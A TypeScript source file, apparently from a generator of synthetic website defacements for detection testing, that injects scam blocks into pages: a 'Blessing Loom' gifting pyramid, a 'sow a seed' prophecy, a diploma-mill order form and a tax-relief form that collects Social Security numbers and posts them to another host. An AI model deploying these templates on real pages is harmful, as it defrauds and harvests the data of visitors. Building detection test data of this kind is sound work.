// Gifting circles, recalled from memory of the US FTC's and the Better Business Bureau's warnings (about 2019–2021) on the "Blessing Loom" and "Mandala" gifting schemes spread on social media and WhatsApp, pyramid schemes in which each member sends a "gift" to the one at the centre, and of Brazil's "mandala da prosperidade" warnings: a loom diagram, the gift amount, a payment handle for the current centre and a group link.
const blessingLoom = fresh14("'Blessing Loom: give $100, receive $800' gifting circle with a diagram, the centre's payment handle and a group link", (page, rng) => {
  const [h, p, cta] = some(rng, page, loomWords)
  const centre = pick(rng, ["Grace", "Tasha", "Maria", "Keisha", "Ana", "Joy", "Luz"])
  const pay = pick(rng, [`Cash App $${centre}${digits(rng, 3)}`, `Venmo @${centre}-${pick(rng, ["Blessed", "Loom", "Joy"])}${digits(rng, 2)}`, `PayPal ${centre.toLowerCase()}${digits(rng, 3)}@${freeMail(rng)}`, `Pix ${digits(rng, 3)}.${digits(rng, 3)}.${digits(rng, 3)}-${digits(rng, 2)}`])
  const ring = (n: number, r: string) => `<span style="display:inline-block;width:${r};height:${r};line-height:${r};border-radius:50%;background:#f8bbd0;margin:2px;font-size:11px">${n}</span>`
  const diagram = `<div style="text-align:center">${Array.from({ length: 8 }, (_, i) => ring(i + 1, "28px")).join("")}<br>${Array.from({ length: 4 }, (_, i) => ring(i + 9, "34px")).join("")}<br>${ring(0, "44px").replace(">0<", `>${esc(centre)}<`)}</div>`
  const group = pick(rng, [`https://chat.whatsapp.com/${alnum(rng, 22)}`, `https://t.me/+${alnum(rng, 16)}`, `https://www.facebook.com/groups/${digits(rng, 15)}`])
  const inner = `<h3>🌸 ${esc(h)}</h3><p>${esc(p)}</p>${diagram}<p>🎁 ${esc(pay)}</p><p><a href="${group}" style="${button(rng, "#ad1457")}">${esc(cta)}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["community-circle", "blessing", "post"], "#ad1457", inner)))
})

// "Sow a seed" offerings, recalled from memory of reporting (BBC, about 2015–2022, and Nigerian and Kenyan press) on prosperity preachers and impostors on social media and hacked church sites asking for a "seed offering" of a fixed amount to unlock a miracle or debt cancellation, paid to a personal account or mobile money, with a prophet's WhatsApp: a prophecy with a deadline, the amount, an account and a prayer line.
const prosperitySeed = fresh14("'sow a seed of $1,000 before midnight to unlock your financial miracle' prophecy with a personal account and a prophet's WhatsApp", (page, rng) => {
  const prophet = `${pick(rng, ["Prophet", "Apostle", "Pastor", "Bishop", "Evangelist"])} ${pick(rng, ["Dr. ", ""])}${pick(rng, ["Emmanuel", "Daniel", "Joshua", "Samuel", "Elijah", "Gabriel"])} ${pick(rng, ["Mensah", "Okafor", "Mwangi", "Adeyemi", "Banda", "Johnson"])}`
  const amount = pick(rng, ["$1,000", "$777", "$1,001", "£500", "€700", "₦250,000", "KSh 50,000"])
  const wa = intlMobile(rng)
  const acct = pick(rng, [`M-Pesa Paybill ${digits(rng, 6)} · Acc ${digits(rng, 6)}`, `Acct ${digits(rng, 10)} · ${pick(rng, ["GTBank", "Access Bank", "Zenith", "Equity Bank"])}`, `Cash App $${pick(rng, ["Prophet", "Seed", "Harvest"])}${digits(rng, 3)}`, `PayPal ${pick(rng, ["seed", "offering", "ministry"])}${digits(rng, 2)}@${freeMail(rng)}`])
  const inner = `<h3>🙏 ${esc(pick(rng, ["PROPHETIC ALERT", "A WORD FOR THIS HOUSE", "DIVINE DEADLINE"]))}</h3><p>${esc(`${prophet}: “The Lord has shown me that someone reading this will receive a financial breakthrough within ${between(rng, 3, 21)} days. Sow a seed of ${amount} before ${pick(rng, ["midnight", "Sunday", "the end of this month"])} and every debt will be cancelled in Jesus' name.”`)}</p><p><b>${esc(acct)}</b></p><p>${esc(pick(rng, ["Send your name and prayer request after sowing", "Prayer line"]))}: <a href="${waLink(wa)}">${esc(wa)}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["prophecy", "ministry-note", "announcement"], "#4a148c", inner)))
})

// Diploma mills, recalled from memory of US Department of Education and FTC guidance (about 2006–2023) on diploma mills, of the New York Times' investigation into Axact (May 2015) and its hundreds of fake online universities, and of "accredited degree based on life experience, no exams, delivered in 15 days" spam: an advert for bachelor's, master's and doctorate degrees with prices, fake accreditation and an order form posting to another host.
const diplomaMill = fresh14("'accredited degree based on your life experience, no exams, delivered in 15 days' diploma-mill advert with an order form", (page, rng) => {
  const uni = `${pick(rng, ["Belford", "Ashwood", "Rochville", "Almeda", "Kingsfield", "Westbridge", "Carlton"])} ${pick(rng, ["University", "International University", "Online University"])}`
  const rows = sample(rng, [["Bachelor's degree", between(rng, 300, 700)], ["Master's degree (MBA)", between(rng, 500, 1100)], ["Doctorate (PhD)", between(rng, 800, 1800)], ["Associate degree", between(rng, 200, 450)], ["High-school diploma", between(rng, 120, 300)]], between(rng, 3, 5))
    .map(([a, b]) => `<li>${esc(String(a))} — $${b}</li>`).join("")
  const form = `<form action="https://${slug(uni)}-${pick(rng, ["online", "degrees", "edu"])}.${pick(rng, ["com", "org", "us", "net"])}/${pick(rng, ["apply", "order"])}" method="post">${field("name", "Full name as on diploma")}${field("email", "E-mail", "email")}${field("experience", "Work experience (years, field)")}<button type="submit" style="${button(rng, "#283593")}">${esc(pick(rng, ["Get my degree", "Apply now", "Evaluate my experience"]))}</button></form>`
  const inner = `<h3>🎓 ${esc(uni)} — ${esc(pick(rng, ["Earn your degree based on life experience", "Accredited degrees in 15 days, no exams", "Turn your experience into a verified degree"]))}</h3><ul>${rows}</ul><p style="font-size:12px">${esc(pick(rng, ["Accredited by the International Accreditation Organization", "Verified transcripts and apostille included", "Degree verification line available 24/7"]))}</p>${form}`
  return splices(insert(someSpot(rng, page), box(rng, ["degree-offer", "education-ad", "sponsored"], "#283593", inner)))
})

// Tax-debt relief, recalled from memory of the US FTC's cases (about 2010–2023) against tax-relief firms and of IRS warnings about "Fresh Start" and "Offer in Compromise mills" advertising that debts can be settled "for pennies on the dollar" for an upfront fee, with a call-centre number: a notice with a debt-amount selector, a toll-free number and a form asking for the tax-ID number, posting to another host.
const taxDebtRelief = fresh14("'IRS Fresh Start: settle your tax debt for pennies on the dollar' notice with a toll-free line and a form asking for the SSN", (page, rng) => {
  const tf = `${pick(rng, ["1-", "", "+1 "])}${pick(rng, ["800", "833", "844", "855", "866", "877", "888"])}-${digits(rng, 3)}-${digits(rng, 4)}`
  const form = `<form action="https://${host(rng, page, ["taxrelief", "freshstart", "irsdebt", "taxsettle"])}/${pick(rng, ["qualify", "lead.php", "check"])}" method="post"><select name="debt" style="display:block;margin:4px 0"><option>$10,000 – $25,000</option><option>$25,000 – $50,000</option><option>$50,000+</option></select>${field("name", "Full name")}${field("ssn", "Social Security number")}${field("phone", "Phone", "tel")}<button type="submit" style="${button(rng, "#c62828")}">${esc(pick(rng, ["See if I qualify", "Stop the levy"]))}</button></form>`
  const inner = `<h3>⚖️ ${esc(pick(rng, ["IRS Fresh Start Program – final enrollment", "Owe the IRS more than $10,000?", "Settle your back taxes for pennies on the dollar"]))}</h3><p>${esc(pick(rng, ["New federal guidelines let qualified taxpayers settle for as little as 10% of what they owe and stop wage garnishment today.", "Stop bank levies and liens. Our tax attorneys settle up to 90% of your tax debt."]))}</p>${form}<p>${esc(pick(rng, ["Call now", "Free consultation"]))}: <a href="tel:${tf.replace(/[^\d+]/g, "")}"><b>${esc(tf)}</b></a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["tax-relief", "notice", "sponsored"], "#c62828", inner)))
})

/** Every fresh14 defacement class, in a fixed order. */
export const fresh14Defacements: ReadonlyArray<ChangeClass> = [
  clipboardRead, screenShare, contactPicker, folderScan, hardwareWallet, speculationPrerender, referrerLeak, ussdForward,
  copyButtonSwap, splitLoader, interactionRedirect, martyrTribute, abortionPills, backlinkSelling, spiderPool, proxyAirport,
  pensionRelease, mmsQuackery, blueBadge, modelScout, insuranceGhost, travelGhost, firearmsSpam, accountsShop,
  gameCheats, blessingLoom, prosperitySeed, diplomaMill, taxDebtRelief
]
